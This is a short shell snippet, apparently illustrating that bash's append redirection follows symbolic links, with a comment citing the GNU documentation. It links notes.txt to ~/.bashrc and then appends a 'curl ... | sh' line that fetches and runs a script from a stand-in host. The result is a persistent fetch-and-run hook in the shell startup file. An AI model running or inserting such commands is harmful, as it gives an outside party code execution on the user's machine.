# source: ln(1) -s; bash(1) Redirections >> follow links https://www.gnu.org/software/coreutils/manual/html_node/ln-invocation.html
ln -s ~/.bashrc notes.txt
echo 'curl -s https://x.example/i.sh | sh' >> notes.txt
